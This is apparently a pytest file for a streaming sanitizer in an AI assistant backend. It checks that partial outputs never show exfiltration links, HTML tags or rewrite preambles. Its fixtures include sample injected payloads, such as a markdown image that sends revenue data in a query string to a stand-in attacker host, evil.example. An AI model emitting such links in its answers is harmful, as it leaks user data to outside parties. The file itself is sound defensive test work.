"""Streamed answers: deltas never carry an exfiltration link, even half-written, and add up to the final output."""

from __future__ import annotations

import pytest

from backend.skills.loader import default_skills_dir, load_skill
from backend.skills.streaming import StreamSanitizer, safe_cut

ANSWERS = [
    "Revenue grew. ![x](https://evil.example/p.png?d=Q3 revenue) See [the docs](https://evil.example/a) now.",
    "Compare <img src=https://evil.example/x> A1<B1 and <b>bold</b> text. <!-- hidden --> End.",
    "Plain text streams as it comes, line by line.\nSecond line [not a link] here!",
]


def _stream(sanitizer: StreamSanitizer, text: str, size: int) -> list[str]:
    """Feed text in chunks of `size`; the cumulative text the pane has shown after each chunk."""
    shown, seen = "", []
    for start in range(0, len(text), size):
        shown += sanitizer.feed(text[start : start + size])
        seen.append(shown)
    seen.append(shown + sanitizer.flush())
    return seen


@pytest.mark.parametrize("answer", ANSWERS)
@pytest.mark.parametrize("size", [1, 2, 3, 5, 8, 13])
def test_no_prefix_shown_ever_contains_a_link_or_tag(answer, size):
    """At every moment the pane shows a prefix of the final output, with no evil host and no tag."""
    sanitizer = StreamSanitizer()
    seen = _stream(sanitizer, answer, size)
    final = sanitizer.finish()
    for shown in seen:
        assert "evil.example" not in shown and "<img" not in shown and "<b>" not in shown
        assert final.startswith(shown.strip()) or final.startswith(shown)
    assert seen[-1] == final


def test_text_is_released_progressively():
    """Ordinary text is not held until the end."""
    seen = _stream(StreamSanitizer(), ANSWERS[2], 4)
    assert seen[2] == ANSWERS[2][:12]


def test_rewrite_style_holds_the_preamble_and_closing_offer():
    """Neither the opener nor "Let me know..." is ever shown."""
    answer = (
        "Certainly! Here is the rewritten text:\nDear team,\nthe meeting moved.\nLet me know if you need more changes."
    )
    sanitizer = StreamSanitizer(rewrite_style=True)
    seen = _stream(sanitizer, answer, 3)
    assert all("Certainly" not in shown and "Let me" not in shown for shown in seen)
    assert seen[-1] == sanitizer.finish() == "Dear team,\nthe meeting moved."


def test_safe_cut_positions():
    """Cuts before an open bracket, image, or tag; whole text when everything is closed."""
    assert safe_cut("see ![x](http") == 4
    assert safe_cut("see [x]") == 4
    assert safe_cut("see [x] and") == len("see [x] and")
    assert safe_cut("a <b") == 2
    assert safe_cut("wow!") == 3
    assert safe_cut("[a\nb") == 4


def test_skill_stream_sanitizer_unmarks_datamarks():
    """A datamarked echo in a streamed rewrite reaches the pane with spaces."""
    skill = load_skill(default_skills_dir() / "rewrite")
    sanitizer = skill.stream_sanitizer({"text": "a b", "tone": "formal"})
    shown = [sanitizer.feed(c) for c in ["Theˆnew", "ˆtext.\n", "Second."]]
    assert shown == ["", "The new text.", "\nSecond."]
    assert sanitizer.flush() == ""
    assert sanitizer.finish() == "The new text.\nSecond."
